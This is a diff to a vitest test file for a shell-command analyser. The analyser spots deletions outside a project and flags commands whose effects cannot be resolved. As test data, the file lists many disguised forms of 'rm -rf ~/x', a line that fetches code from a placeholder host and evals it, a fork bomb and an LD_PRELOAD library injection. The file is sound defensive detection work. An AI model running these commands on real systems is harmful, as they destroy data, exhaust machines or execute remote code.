@@ -1,4 +1,5 @@
 /** The same deletion, spelled in every way that hides it from whoever only looks for words. */
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the shell writes its variables so
 
 import { describe, expect, it } from 'vitest';
 import { effectsOf, factsOf, sayingsOf, underlined } from './reading.ts';
@@ -86,6 +87,8 @@ const DELETES = [
   "echo 'rm -rf ~/x' > x.sh; source ./x.sh",
   "cat <(echo 'rm -rf ~/x') | sh",
   'command rm -rf ~/x',
+  'noglob rm -rf ~/x',
+  '=rm -rf ~/x',
   'builtin command rm -rf ~/x',
   'exec rm -rf ~/x',
   'busybox rm -rf ~/x',
@@ -119,7 +122,7 @@ const DELETES = [
   `node -e "require('child_process').spawn('rm', ['-rf', '/home/dev/x'])"`,
   `node -e "require('fs').rmSync('/home/dev/x', { recursive: true })"`,
   `perl -e 'system("rm -rf ~/x")'`,
-  'ruby -e \'`rm -rf ~/x`\'',
+  "ruby -e '`rm -rf ~/x`'",
 ];
 
 describe('a deletion outside the project is seen', () => {
@@ -130,9 +133,12 @@ describe('a deletion outside the project is seen', () => {
     expect(sayingsOf(facts)).toContainEqual(expect.stringMatching(/^deletes ~\/x(\/\*)?, not in this project$/));
   });
 
-  it.each(['rm -rf ~/x', "sh -c 'rm -rf ~/x'", 'sh -c "rm -rf ~/x"', 'ls; nohup rm -rf ~/x &', "eval 'rm -rf ~/x'"])('and its very words are underlined: %s', (command) => {
-    expect(underlined(factsOf(command), 'delete')).toEqual(['~/x']);
-  });
+  it.each(['rm -rf ~/x', "sh -c 'rm -rf ~/x'", 'sh -c "rm -rf ~/x"', 'ls; nohup rm -rf ~/x &', "eval 'rm -rf ~/x'"])(
+    'and its very words are underlined: %s',
+    (command) => {
+      expect(underlined(factsOf(command), 'delete')).toEqual(['~/x']);
+    },
+  );
 });
 
 describe('what cannot be told is said to be so', () => {
@@ -155,12 +161,17 @@ describe('what cannot be told is said to be so', () => {
     [`python3 -c "import os; os.system(open('x').read())"`, undefined],
     ['git push origin $BRANCH', 'pushes what can’t be told before it runs: $BRANCH'],
     ['git $verb', undefined],
+    ['rm -rf $(date +/home/dev/x)', undefined],
+    ['rm -rf "$(git rev-parse --git-dir)"', undefined],
+    [`node -e "fetch('https://x.example').then((r) => r.text()).then(eval)"`, undefined],
+    [':(){ :|:& };:', undefined],
     ['LD_PRELOAD=./evil.so ls', 'makes other programs load ./evil.so (LD_PRELOAD)'],
-    ["awk 'BEGIN { system(\"x\") }'", undefined],
+    ['awk \'BEGIN { system("x") }\'', undefined],
     ["sed 's/.*/date/e' a.txt", undefined],
     ["vim -c ':!x' a.txt", undefined],
     ["echo 'unterminated", 'can’t be read as shell commands: unterminated single quote'],
     ['if then', undefined],
+    ['echo $((rm -rf ~/x))', 'holds arithmetic that can’t be read'],
   ])('%s', (command, says) => {
     const unresolved = factsOf(command).effects.filter(({ effect }) => effect === 'unresolved');
     expect(unresolved).not.toEqual([]);
